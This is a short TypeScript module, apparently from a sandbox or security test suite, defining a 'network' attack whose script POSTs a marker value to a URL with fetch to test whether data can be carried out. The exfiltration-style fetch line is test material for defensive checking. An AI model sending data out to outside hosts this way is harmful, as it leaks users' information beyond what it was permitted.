import {defineAttack} from '../../attack.ts';

export const attack = defineAttack({
  kind: 'network',
  tries: 'A fetch that carries data out.',
  script: `await fetch(url, {method: 'POST', body: JSON.stringify({mark})});`,
});
